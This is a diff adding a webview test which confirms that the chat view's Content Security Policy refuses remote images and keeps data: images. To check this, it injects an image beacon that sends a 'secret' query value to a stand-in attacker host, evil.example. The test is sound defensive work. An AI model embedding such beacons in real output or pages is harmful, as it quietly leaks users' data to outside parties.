@@ -116,6 +116,39 @@ async function assertInert(wv: WebviewPage): Promise<void> {
   for (const src of report.imgs) assert.match(src, /^data:image\/(png|jpeg|gif|webp);/i, src);
 }
 
+describe('chat webview: Content Security Policy', () => {
+  const t = useWebview();
+
+  it('refuses remote images even where the sanitizer would let one through, and keeps data: images', async () => {
+    const { page } = t.wv;
+    await t.wv.send({ type: 'conversation/load', conversation: conversation([assistantMsg('a1', 'Hello.')]), activeRequestId: null });
+    await page.locator('[data-message-id="a1"]').waitFor();
+    // Put images straight into the page, as a sanitizer slip would: the CSP alone decides.
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+      const load = (src: string): Promise<string> =>
+        new Promise((resolve) => {
+          const img = document.createElement('img');
+          img.onload = () => resolve('loaded');
+          img.onerror = () => resolve('refused');
+          img.src = src;
+          document.body.appendChild(img);
+        });
+      const remote = await load('https://evil.example/pixel.png?secret=rcai-stolen');
+      const inline = await load('data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7');
+      await new Promise((r) => setTimeout(r, 100));
+      return { remote, inline, violations };
+    });
+    assert.equal(outcome.remote, 'refused');
+    assert.ok(
+      outcome.violations.some((v) => v.startsWith('img-src https://evil.example/pixel.png')),
+      `the CSP refused it (not the network): ${JSON.stringify(outcome.violations)}`,
+    );
+    assert.equal(outcome.inline, 'loaded', 'data: images still show');
+  });
+});
+
 describe('chat webview: hostile model output', () => {
   const t = useWebview();
 
